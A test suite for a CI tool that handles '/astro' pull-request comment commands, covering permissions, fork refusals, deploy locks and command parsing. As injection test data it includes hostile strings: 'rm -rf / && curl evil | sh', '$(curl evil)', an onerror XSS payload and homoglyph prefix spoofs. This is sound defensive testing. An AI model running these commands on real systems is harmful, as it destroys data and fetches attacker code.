import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { copyFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { execFileSync } from "node:child_process";
import { tmpdir } from "node:os";
import { createOctokit, type GitHubClient } from "../../src/github/octokit.js";
import { escapeReason, runCommentCommand, type CommentCommandExecutors, type CommentCommandOptions } from "../../src/commands/comment.js";
import { createGitRefLockStore } from "../../src/comment-commands/locks.js";
import { createPullRequestCheckout, GitFailureBeforeAstro } from "../../src/comment-commands/checkout.js";
import { createRealExecutors } from "../../src/commands/comment-executors.js";
import { classifyError } from "../../src/errors.js";
import { startAstroEmulator } from "../support/astro-emulator.js";
import { parseCommandLine, quoteUntrusted } from "../../src/comment-commands/parse.js";
import { COMMAND_NAMES, PERMISSION_LEVELS, parseCommandSettings, permissionAtLeast, type CommandName } from "../../src/comment-commands/settings.js";
import type { DeploymentTarget } from "../../src/deploy/targets.js";
import { loadConfig } from "../../src/config/config.js";
import { RecordingLogger } from "../support/recording-logger.js";
import { startGitHubEmulator, type GitHubEmulator } from "../support/github-emulator.js";
import { createTempGitRepo, type TempGitRepo } from "../support/git-repo.js";
import { closedPullRequestPayload, commentPayload, webhookSchemaErrors, type CommentPayloadOptions } from "./support.js";

const TARGETS: DeploymentTarget[] = [
  { name: "staging", branches: ["develop"], deploymentName: "staging" },
  { name: "production", branches: ["main"], deploymentName: "prod", protected: true },
];

// A real origin with the PR head published as refs/pull/<n>/head, and a clone as the workflow's trusted checkout.
let origin: TempGitRepo;
let clone: string;
let headSha: string;
let otherSha: string;
beforeAll(() => {
  origin = createTempGitRepo({ "dags/a.py": "x = 1\n" });
  origin.commit("base");
  origin.write({ "dags/a.py": "x = 2  # $(touch /tmp/pwned) `id`\n" });
  headSha = origin.commit("pr head");
  origin.git("update-ref", "refs/pull/7/head", headSha);
  origin.git("update-ref", "refs/pull/8/head", headSha);
  origin.write({ "dags/b.py": "y = 1\n" });
  otherSha = origin.commit("other pr head");
  origin.git("update-ref", "refs/pull/9/head", otherSha);
  clone = execFileSync("mktemp", ["-d", `${tmpdir()}/astro-ci-clone-XXXXXX`], { encoding: "utf8" }).trim();
  execFileSync("git", ["clone", "-q", origin.dir, clone]);
});
afterAll(() => {
  origin.cleanup();
  execFileSync("rm", ["-rf", clone]);
});

describe("PR comment commands against the GitHub emulator", () => {
  let emulator: GitHubEmulator;
  let client: GitHubClient;
  let logger: RecordingLogger;
  let ran: { command: string; pr: number; dir?: string; files?: string[]; target?: string }[];
  beforeEach(async () => {
    emulator = await startGitHubEmulator();
    client = createOctokit({ token: "ghs_test", baseUrl: emulator.url, logger: new RecordingLogger(), retryAfterBaseValue: 1, spaceOutWrites: false });
    logger = new RecordingLogger();
    ran = [];
    emulator.seedPull({ number: 7, headSha });
    emulator.seedPull({ number: 8, headSha, headRepo: "mallory/r" });
    emulator.seedPull({ number: 9, headSha: otherSha });
  });
  afterEach(async () => {
    expect(emulator.validationErrors).toEqual([]);
    expect(emulator.responseErrors).toEqual([]);
    await emulator.close();
  });

  // Executors record what they were given; the PR files are read as data only.
  const executors: CommentCommandExecutors = {
    validate: async (pr, checkout) => {
      ran.push({ command: "validate", pr: pr.number, dir: checkout.dir, files: readdirSync(`${checkout.dir}/dags`) });
      return { ok: true, summary: "0 findings" };
    },
    preview: async (pr, checkout) => {
      ran.push({ command: "preview", pr: pr.number, dir: checkout.dir });
      return { ok: true, summary: "preview deployed" };
    },
    teardown: async (pr) => {
      ran.push({ command: "teardown", pr: pr.number });
      return { ok: true, summary: "removed" };
    },
    deploy: async (pr, checkout, target) => {
      ran.push({ command: "deploy", pr: pr.number, dir: checkout.dir, target: target.name });
      return { ok: true, summary: "deployed" };
    },
  };

  const handle = (payload: Record<string, unknown>, overrides: Partial<CommentCommandOptions> = {}, eventName = "issue_comment") =>
    runCommentCommand({
      eventName,
      payload,
      client,
      owner: "o",
      repo: "r",
      settings: parseCommandSettings(undefined),
      targets: TARGETS,
      locks: createGitRefLockStore(client, { owner: "o", repo: "r" }),
      checkout: createPullRequestCheckout(clone),
      executors,
      logger,
      ...overrides,
    });
  const comment = (options: Omit<CommentPayloadOptions, "commentId">) => {
    const seeded = emulator.seedComment(options.pr ?? 7, options.body, options.login ?? "alice");
    return commentPayload({ ...options, commentId: seeded.id });
  };
  const reply = (pr = 7) => (emulator.state.comments.get(pr) ?? []).find((c) => c.body.includes("astro-ci:commands"))?.body ?? "";
  const reactions = () => emulator.state.reactions.map((r) => r.content);

  it.each([
    ["edited", { action: "edited" }],
    ["deleted", { action: "deleted" }],
    ["bot by type", { userType: "Bot" }],
    ["bot by login", { login: "renovate[bot]" }],
    ["plain issue", { onPullRequest: false }],
    ["no prefix", { body: "looks good, /astro deploy staging later" }],
  ] as const)("ignores %s with no request to GitHub at all", async (_label, override) => {
    const result = await handle(comment({ body: "/astro deploy staging", ...override }));
    expect(result.ignored).toBe(true);
    expect(emulator.requests).toEqual([]);
    expect(ran).toEqual([]);
  });

  it("ignores pull_request events other than closed, and other events, without requests", async () => {
    expect((await handle({ action: "opened", pull_request: { number: 7 } }, {}, "pull_request")).ignored).toBe(true);
    expect((await handle(comment({ body: "/astro help" }), {}, "push")).ignored).toBe(true);
    expect(emulator.requests).toEqual([]);
  });

  // Who may run what: every author_association × every permission answer × every command.
  const ASSOCIATIONS = ["OWNER", "MEMBER", "COLLABORATOR", "CONTRIBUTOR", "FIRST_TIMER", "FIRST_TIME_CONTRIBUTOR", "MANNEQUIN", "NONE"];
  const ANSWERS = [...PERMISSION_LEVELS.filter((p) => p !== "none"), "404"] as const;
  const COMMAND_LINES = (target: string): Record<CommandName, string> => ({
    help: "/astro help",
    status: "/astro status",
    validate: "/astro validate",
    preview: "/astro preview",
    teardown: "/astro teardown",
    deploy: `/astro deploy ${target}`,
    lock: `/astro lock ${target}`,
    unlock: `/astro unlock ${target}`,
  });
  const cases = ASSOCIATIONS.flatMap((association) => ANSWERS.flatMap((answer) => COMMAND_NAMES.map((command) => [association, answer, command] as const)));
  it("authorization table: write, maintain and admin members run everything; others only help and status", async () => {
    // Each case has its own commenter, PR and target so that the cases can run side by side.
    const outcomes = [];
    for (let start = 0; start < cases.length; start += 32) {
      outcomes.push(
        ...(await Promise.all(
          cases.slice(start, start + 32).map(async ([association, answer, command], offset) => {
            const i = start + offset;
            const login = `user-${i}`;
            const pr = 1000 + i;
            const target = `t${i}`;
            if (answer !== "404") emulator.state.permissions.set(login, answer);
            emulator.seedPull({ number: pr, headSha });
            // The git checkout is covered by the tests below; here an already-fetched head keeps 384 cases fast.
            const result = await handle(comment({ body: COMMAND_LINES(target)[command], association, login, pr }), {
              targets: [{ name: target, branches: ["develop"], deploymentName: target }],
              checkout: async (_pr, sha) => ({ dir: origin.dir, sha, committedAtMs: 0, cleanup: async () => undefined }),
            });
            return { association, answer, command, pr, target, result };
          }),
        )),
      );
    }
    expect(outcomes).toHaveLength(ASSOCIATIONS.length * ANSWERS.length * COMMAND_NAMES.length);
    for (const { association, answer, command, pr, target, result } of outcomes) {
      // The permission API decides (a private org member's association is CONTRIBUTOR or NONE); a mannequin cannot comment.
      const effective = association !== "MANNEQUIN" && answer !== "404" ? answer : "none";
      const mayRun = ["help", "status"].includes(command) || permissionAtLeast(effective as never, "write");
      expect(result.accepted, `${association} with ${answer} running ${command}`).toBe(mayRun);
      expect(result.ignored).toBe(false);
      expect(ran.filter((r) => r.pr === pr).length, `${association} ${answer} ${command}`).toBe(mayRun && ["validate", "preview", "teardown", "deploy"].includes(command) ? 1 : 0);
      expect(emulator.state.refs.has(`refs/astro-ci/locks/${target}`), `${association} ${answer} ${command}`).toBe(mayRun && ["deploy", "lock"].includes(command));
    }
    // Only mannequins are never asked about.
    const asked = new Set(emulator.requests.filter((r) => r.operationId === "repos/get-collaborator-permission-level").map((r) => r.path.split("/")[5]));
    const mannequins = outcomes.filter((o) => o.association === "MANNEQUIN").map((o) => `user-${o.pr - 1000}`);
    expect(mannequins.filter((login) => asked.has(login))).toEqual([]);
    expect(asked.size).toBeGreaterThan(0);
  }, 240_000);

  it.each(["CONTRIBUTOR", "NONE", "FIRST_TIME_CONTRIBUTOR"])("a member whose org membership is private (the payload says %s) runs what the permission API allows (was refused without asking)", async (association) => {
    emulator.state.permissions.set("alice", "write");
    const result = await handle(comment({ body: "/astro lock staging", association }));
    expect(result).toMatchObject({ command: "lock", accepted: true });
    expect(emulator.requests.filter((r) => r.operationId === "repos/get-collaborator-permission-level")).toHaveLength(1);
    expect(reactions()).toEqual(["eyes", "rocket"]);
  });

  it("a commenter without access is refused after one permission request, whatever the payload's association claims", async () => {
    const result = await handle(comment({ body: "/astro lock staging", association: "MEMBER", login: "mallory" }));
    expect(result).toMatchObject({ command: "lock", accepted: false, reason: "@mallory has no permission; lock needs write" });
    expect(emulator.state.refs.size).toBe(0);
  });

  it("reacts 👀 then 🚀 and answers in one sticky comment, updated by the next command", async () => {
    emulator.state.permissions.set("alice", "write");
    const first = await handle(comment({ body: "/astro validate" }));
    expect(first).toMatchObject({ command: "validate", accepted: true, sha: headSha, failed: false });
    expect(ran[0]?.files?.sort()).toEqual(["a.py"]);
    expect(reactions()).toEqual(["eyes", "rocket"]);
    await handle(comment({ body: "/ASTRO Help" }));
    const ours = (emulator.state.comments.get(7) ?? []).filter((c) => c.body.includes("astro-ci:commands"));
    expect(ours).toHaveLength(1);
    expect(ours[0]?.body).toContain("astro-ci commands");
  });

  it("answers unknown commands and bad arguments with help, not an error", async () => {
    emulator.state.permissions.set("alice", "write");
    for (const body of ["/astro frobnicate", "/astro deploy", "/astro deploy staging production", "/astro deploy ../../etc", "/astro validate now", "/astro deploy nosuch"]) {
      const result = await handle(comment({ body }));
      expect(result.accepted, body).toBe(false);
      expect(reply()).toContain("astro-ci commands");
    }
    expect(ran).toEqual([]);
  });

  it.each([
    ["shell metacharacters", "/astro deploy staging; rm -rf / && curl evil | sh"],
    ["command substitution", "/astro deploy $(curl evil)"],
    ["backticks", "/astro deploy `id`"],
    ["mention and link", "/astro deploy @octo-org/admins [x](https://evil.example) <img src=x onerror=alert(1)>"],
    ["very long line", `/astro deploy ${"a".repeat(100_000)}`],
  ])("injection (%s): nothing runs and the reply quotes safely", async (_label, body) => {
    emulator.state.permissions.set("alice", "admin");
    const result = await handle(comment({ body: `${body}\n/astro deploy staging` }));
    expect(result.accepted).toBe(false);
    expect(ran).toEqual([]);
    const text = reply();
    // The quoted line sits in one code span: no mention, link, HTML or backtick can escape it.
    const quoted = /asked `([^`\n]*)`/.exec(text);
    expect(quoted).not.toBeNull();
    expect(text.length).toBeLessThan(5_000);
    const outsideCode = text.replace(/`[^`\n]*`/g, "");
    expect(outsideCode).not.toMatch(/@octo-org|https?:\/\/evil|<img|\$\(|onerror/);
  });

  it.each([
    ["fullwidth solidus", "／astro deploy staging"],
    ["division slash", "∕astro deploy staging"],
    ["Cyrillic a", "/аstro deploy staging"],
    ["zero-width joiner", "/a\u200dstro deploy staging"],
    ["second line only", "thanks!\n/astro deploy staging"],
  ])("look-alikes of the prefix are not commands (%s)", async (_label, body) => {
    emulator.state.permissions.set("alice", "admin");
    const result = await handle(comment({ body }));
    expect(result.ignored).toBe(true);
    expect(emulator.requests).toEqual([]);
  });

  it("refuses a deploy of a fork PR (forks: off by default) and an image target of a fork even with dags-only", async () => {
    emulator.state.permissions.set("alice", "write");
    const result = await handle(comment({ body: "/astro deploy staging", pr: 8 }));
    expect(result).toMatchObject({ accepted: false });
    expect(result.reason).toMatch(/fork/);
    const imageTargets: DeploymentTarget[] = [{ name: "staging", branches: ["develop"], deploymentName: "staging", deployType: "image-and-dags" }];
    const dagsOnly = { ...parseCommandSettings(undefined), forks: "dags-only" as const };
    const image = await handle(comment({ body: "/astro deploy staging", pr: 8 }), { settings: dagsOnly, targets: imageTargets });
    expect(image.reason).toMatch(/image/);
    const allowed = await handle(comment({ body: "/astro deploy staging", pr: 8 }), { settings: dagsOnly });
    expect(allowed.accepted).toBe(true);
    expect(ran.map((r) => r.command)).toEqual(["deploy"]);
  });

  it("an executor's refusal (a fork's preview with previews.forks off) is answered 'Refused', not 'failed', and fails nothing", async () => {
    emulator.state.permissions.set("alice", "write");
    const dagsOnly = { ...parseCommandSettings(undefined), forks: "dags-only" as const };
    const refusing: CommentCommandExecutors = { ...executors, preview: async () => ({ ok: false, refused: true, summary: "this pull request comes from a fork: previews for forks are off (previews.forks: false)" }) };
    const result = await handle(comment({ body: "/astro preview", pr: 8 }), { settings: dagsOnly, executors: refusing });
    expect(result).toMatchObject({ accepted: false, failed: false, reason: expect.stringContaining("previews for forks are off") });
    expect(reply(8)).toContain("Refused `preview`");
    expect(reply(8)).not.toContain("failed");
  });

  it("refuses protected targets unless commands.allow-protected", async () => {
    emulator.state.permissions.set("alice", "admin");
    const refused = await handle(comment({ body: "/astro deploy production" }));
    expect(refused.reason).toMatch(/protected/);
    const allowed = await handle(comment({ body: "/astro deploy production" }), { settings: { ...parseCommandSettings(undefined), allowProtected: true } });
    expect(allowed.accepted).toBe(true);
  });

  it("refuses when the head commit is newer than the comment (head moved after it)", async () => {
    emulator.state.permissions.set("alice", "write");
    const result = await handle(comment({ body: "/astro validate", createdAt: "2020-01-01T00:00:00Z" }));
    expect(result).toMatchObject({ accepted: false, sha: headSha });
    expect(result.reason).toMatch(/newer than the comment/);
    expect(ran).toEqual([]);
  });

  it("a deploy refused because the head moved after the comment does not keep the lock it just took", async () => {
    emulator.state.permissions.set("alice", "write");
    const result = await handle(comment({ body: "/astro deploy staging", createdAt: "2020-01-01T00:00:00Z" }));
    expect(result).toMatchObject({ accepted: false, reason: expect.stringMatching(/newer than the comment/) });
    expect(ran).toEqual([]);
    // Was: refs/astro-ci/locks/staging held by #7, refusing every other PR until an unlock.
    expect([...emulator.state.refs.keys()]).toEqual([]);
    // A lock the PR held before stays held.
    expect((await handle(comment({ body: "/astro lock staging" }))).accepted).toBe(true);
    await handle(comment({ body: "/astro deploy staging", createdAt: "2020-01-01T00:00:00Z" }));
    expect([...emulator.state.refs.keys()]).toContain("refs/astro-ci/locks/staging");
  });

  it("a created_at shaped like a time that is no time (month 13) is not a comment: the head-moved rule cannot compare against NaN", async () => {
    emulator.state.permissions.set("alice", "write");
    const result = await handle(comment({ body: "/astro validate", createdAt: "2020-13-45T99:99:99Z" }));
    expect(result).toMatchObject({ accepted: false, ignored: true, reason: "the comment has no valid created_at" });
    expect(ran).toEqual([]);
    expect(emulator.requests).toEqual([]);
  });

  it("refuses when the PR head GitHub reports is not what refs/pull/<n>/head holds", async () => {
    emulator.state.permissions.set("alice", "write");
    emulator.seedPull({ number: 7, headSha: otherSha });
    const result = await handle(comment({ body: "/astro validate" }));
    expect(result.accepted).toBe(false);
    expect(result.reason).toMatch(/head moved/);
  });

  it("a deploy that a git failure stops before it sent anything to Astro gives back the lock it took: the reply says so with the fix, 😕, exit 2", async () => {
    // A clone whose object store lost the PR head's root tree after the checkout (a corrupted or partial clone):
    // the deploy's `git status` in the PR worktree fails with "bad tree object", before any write to Astro.
    const broken = mkdtempSync(join(tmpdir(), "astro-ci-clone-"));
    const trusted = mkdtempSync(join(tmpdir(), "astro-ci-trusted-"));
    const astro = await startAstroEmulator();
    try {
      execFileSync("git", ["clone", "-q", origin.dir, broken]);
      const tree = execFileSync("git", ["-C", broken, "rev-parse", `${headSha}^{tree}`], { encoding: "utf8" }).trim();
      const looseTree = join(broken, ".git", "objects", tree.slice(0, 2), tree.slice(2));
      const checkout = createPullRequestCheckout(broken);
      astro.addDeployment({ name: "staging" });
      emulator.state.permissions.set("alice", "write");
      const deployWith = () =>
        handle(comment({ body: "/astro deploy staging" }), {
          checkout: async (pr, sha) => {
            const done = await checkout(pr, sha);
            expect(existsSync(looseTree)).toBe(true);
            unlinkSync(looseTree);
            return done;
          },
          executors: createRealExecutors({ trustedRoot: trusted, repository: "o/r", env: { ASTRO_API_TOKEN: "test-token", ASTRO_API_URL: astro.url, ASTRO_ORGANIZATION_ID: astro.organizationId }, logger }),
        });
      const error = await deployWith().catch((e: unknown) => e);
      // Was: refs/astro-ci/locks/staging kept by #7 (as for a failed deploy), refusing every other PR until an unlock.
      expect([...emulator.state.refs.keys()]).toEqual([]);
      expect(error).toBeInstanceOf(GitFailureBeforeAstro);
      expect(error).toMatchObject({ where: "deploy" });
      const classified = classifyError(error);
      expect(classified.exitCode).toBe(2);
      expect(classified.describe()).toMatch(/^git status failed: a commit astro-ci needs is not in this clone \(.*bad tree object.*\); nothing was sent to Astro, so staging is as it was Fix: /);
      expect(astro.requests.length).toBeGreaterThan(0);
      expect(astro.requests.filter((r) => r.method !== "GET")).toEqual([]);
      expect(reply()).toMatch(/⚠️ .*\n\n`deploy` on [0-9a-f]{12} failed before anything was sent to Astro \(nothing was deployed\) and the lock on `staging` was given back: git status failed: .*bad tree object.*\n\nFix: /s);
      expect(reactions()).toEqual(["eyes", "confused"]);
      expect(astro.validationErrors).toEqual([]);
      expect(astro.responseErrors).toEqual([]);
      // A lock the PR held before (`/astro lock`) stays held.
      copyFileSync(join(origin.dir, ".git", "objects", tree.slice(0, 2), tree.slice(2)), looseTree);
      expect((await handle(comment({ body: "/astro lock staging" }))).accepted).toBe(true);
      const again = await deployWith().catch((e: unknown) => e);
      expect(again).toBeInstanceOf(GitFailureBeforeAstro);
      expect([...emulator.state.refs.keys()]).toContain("refs/astro-ci/locks/staging");
      expect(reply()).toMatch(/failed before anything was sent to Astro \(nothing was deployed\): git status failed/);
    } finally {
      await astro.close();
      rmSync(broken, { recursive: true, force: true });
      rmSync(trusted, { recursive: true, force: true });
    }
  }, 60_000);

  it("a deploy that fails otherwise keeps the lock, a git failure too when the deploy does not mark it as before any write to Astro (the Deployment may be half-updated)", async () => {
    emulator.state.permissions.set("alice", "write");
    const failing = (error: Error): Partial<CommentCommandOptions> => ({ executors: { ...executors, deploy: async () => Promise.reject(error) } });
    for (const error of [new Error("git cat-file could not read 0123: missing"), new Error("git ls-tree failed: fatal: not a tree object"), new Error("POST /deployments/x/deploys/y/finalize → 500")]) {
      const result = await handle(comment({ body: "/astro deploy staging" }), failing(error));
      expect(result, error.message).toMatchObject({ accepted: true, failed: true, reason: `failed: ${error.message}` });
      expect([...emulator.state.refs.keys()].sort(), error.message).toEqual(["refs/astro-ci/lock-holders/staging/pr-7", "refs/astro-ci/locks/staging"]);
    }
  });

  it("locks: another PR is refused with the holder's number; unlock by the holder; released on close", async () => {
    emulator.state.permissions.set("alice", "write");
    expect((await handle(comment({ body: "/astro lock staging" }))).accepted).toBe(true);
    expect(emulator.state.refs.get("refs/astro-ci/locks/staging")).toBe(headSha);
    const other = await handle(comment({ body: "/astro deploy staging", pr: 9 }));
    expect(other).toMatchObject({ accepted: false, results: { holder: 7 } });
    expect(reply(9)).toContain("locked by #7");
    expect((await handle(comment({ body: "/astro unlock staging", pr: 9 }))).accepted).toBe(false);
    // Deploy by the holder keeps its lock; status shows it.
    expect((await handle(comment({ body: "/astro deploy staging" }))).accepted).toBe(true);
    const status = await handle(comment({ body: "/astro status", pr: 9 }));
    expect(status.results).toEqual({ locks: [{ target: "staging", taken: true, holder: 7 }, { target: "production", taken: false, holder: null }] });
    // Closing PR 7 releases; PR 9 can then deploy (taking the lock).
    const closedEvent = closedPullRequestPayload(7);
    expect(await webhookSchemaErrors("pull-request-closed", closedEvent)).toEqual([]);
    const closed = await handle(closedEvent, {}, "pull_request");
    expect(closed.results).toEqual({ released: ["staging"] });
    expect([...emulator.state.refs.keys()]).toEqual([]);
    expect((await handle(comment({ body: "/astro deploy staging", pr: 9 }))).accepted).toBe(true);
    expect([...emulator.state.refs.keys()].sort()).toEqual(["refs/astro-ci/lock-holders/staging/pr-9", "refs/astro-ci/locks/staging"]);
    expect((await handle(comment({ body: "/astro unlock staging", pr: 9 }))).accepted).toBe(true);
    expect([...emulator.state.refs.keys()]).toEqual([]);
  });

  it("an admin may release another PR's lock", async () => {
    emulator.state.permissions.set("alice", "write");
    await handle(comment({ body: "/astro lock staging" }));
    emulator.state.permissions.set("bob", "admin");
    const result = await handle(comment({ body: "/astro unlock staging", pr: 9, login: "bob" }));
    expect(result.accepted).toBe(true);
    expect([...emulator.state.refs.keys()]).toEqual([]);
  });
});

describe("the PR checkout", () => {
  it("keeps a complete clone complete (a --depth fetch would make it shallow) and a shallow clone shallow", async () => {
    const complete = execFileSync("mktemp", ["-d", `${tmpdir()}/astro-ci-clone-XXXXXX`], { encoding: "utf8" }).trim();
    const shallow = execFileSync("mktemp", ["-d", `${tmpdir()}/astro-ci-clone-XXXXXX`], { encoding: "utf8" }).trim();
    try {
      execFileSync("git", ["clone", "-q", origin.dir, complete]);
      execFileSync("git", ["clone", "-q", "--depth=1", `file://${origin.dir}`, shallow]);
      const isShallow = (dir: string) => execFileSync("git", ["-C", dir, "rev-parse", "--is-shallow-repository"], { encoding: "utf8" }).trim();
      for (const dir of [complete, shallow]) {
        const checkout = await createPullRequestCheckout(dir)(7, headSha);
        expect(readFileSync(join(checkout.dir, "dags/a.py"), "utf8")).toContain("x = 2");
        await checkout.cleanup();
      }
      expect(isShallow(complete)).toBe("false");
      expect(isShallow(shallow)).toBe("true");
      // The complete clone still has the PR head's parent (the base), so a merge base can be found.
      expect(execFileSync("git", ["-C", complete, "merge-base", headSha, otherSha], { encoding: "utf8" }).trim()).toBe(headSha);
    } finally {
      execFileSync("rm", ["-rf", complete, shallow]);
    }
  });

  it("leaves no folder in the temp dir when git worktree add fails", async () => {
    // A second clone whose .git/worktrees is a file: the fetch works, `git worktree add` cannot register the worktree.
    const broken = createTempGitRepo();
    execFileSync("git", ["-C", broken.dir, "remote", "add", "origin", origin.dir]);
    writeFileSync(join(broken.dir, ".git", "worktrees"), "");
    const before = readdirSync(tmpdir()).filter((name) => name.startsWith("astro-ci-pr-"));
    await expect(createPullRequestCheckout(broken.dir)(7, headSha)).rejects.toThrow(/worktree/);
    expect(readdirSync(tmpdir()).filter((name) => name.startsWith("astro-ci-pr-"))).toEqual(before);
    broken.cleanup();
  });
});

describe("command line parsing", () => {
  it("reads the first line only, case-insensitively, without a shell", () => {
    expect(parseCommandLine("/Astro DEPLOY staging\r\nrm -rf /", "/astro")).toEqual({ kind: "command", name: "deploy", args: ["staging"], target: "staging" });
    expect(parseCommandLine("/astro", "/astro")).toMatchObject({ kind: "command", name: "help" });
    expect(parseCommandLine("  /astro\tstatus  ", "/astro")).toMatchObject({ kind: "command", name: "status" });
    expect(parseCommandLine("/astrofoo help", "/astro")).toEqual({ kind: "none" });
    expect(parseCommandLine("/ci deploy x", "/ci")).toMatchObject({ kind: "command", name: "deploy" });
  });
  it("compares ASCII letters only: the Kelvin sign (U+212A, which toLowerCase() makes a `k`) is no k, in the command or the prefix", () => {
    for (const line of ["/astro loc\u212A staging", "/astro unloc\u212A production", "/astro LOC\u212A staging", "/astro \u0130nvalid", "/astro deploy\u00e9 staging"]) {
      expect(parseCommandLine(line, "/astro")).toMatchObject({ kind: "invalid", reason: expect.stringContaining("ASCII letters only") });
    }
    expect(parseCommandLine("/\u212Aube lock staging", "/kube")).toEqual({ kind: "none" });
    expect(parseCommandLine("/KUBE LOCK staging", "/kube")).toEqual({ kind: "command", name: "lock", args: ["staging"], target: "staging" });
  });
  it("splits on any whitespace (a no-break space pasted from a rendered comment), not on invisible non-spaces", () => {
    expect(parseCommandLine("/astro\u00a0deploy\u3000staging\u00a0", "/astro")).toEqual({ kind: "command", name: "deploy", args: ["staging"], target: "staging" });
    expect(parseCommandLine("\u2003/astro status", "/astro")).toMatchObject({ kind: "command", name: "status" });
    // A zero-width space is no whitespace: the word it hides in is no target name.
    expect(parseCommandLine("/astro deploy stag\u200bing", "/astro")).toMatchObject({ kind: "invalid", name: "deploy" });
    expect(parseCommandLine("/astro\u200bdeploy staging", "/astro")).toEqual({ kind: "none" });
  });
  it("a target that cannot be part of a git ref name (the lock refs) is invalid, in a comment and in deployments: name:", async () => {
    // GitHub refuses such refs with 422, which the lock store reads as "taken": the target was locked forever by "an unknown holder".
    for (const target of ["stg.lock", "a..b", "stg."]) expect(parseCommandLine(`/astro deploy ${target}`, "/astro")).toMatchObject({ kind: "invalid", name: "deploy", reason: expect.stringContaining("no '..', no trailing '.' or '.lock'") });
    expect(parseCommandLine("/astro lock prod.eu-1", "/astro")).toMatchObject({ kind: "command", target: "prod.eu-1" });
    const repo = createTempGitRepo({ "astro-ci.yaml": "deployments:\n  - branch: main\n    deployment-name: prod\n    name: prod.lock\n" });
    try {
      await expect(loadConfig({ repoRoot: repo.dir })).rejects.toMatchObject({ line: 4, message: expect.stringContaining("`deployments[0].name` must match") });
    } finally {
      repo.cleanup();
    }
  });
  it("escapes PR-controlled text in reasons: no link, mention, HTML or formatting", () => {
    const escaped = escapeReason("branch '[x](https://evil.example)' @admins <b>`id`</b> www.evil.example\nnext");
    expect(escaped).not.toMatch(/\]\(|https:\/\/|@admins|<b>|www\.evil|\n/);
    expect(escaped).toContain("\\[x\\]");
  });
  it("quotes untrusted text in one code span", () => {
    expect(quoteUntrusted("a `b` @c\nsecond")).toBe("`a 'b' @c`");
    expect(quoteUntrusted("x".repeat(500))).toHaveLength(83);
  });
});
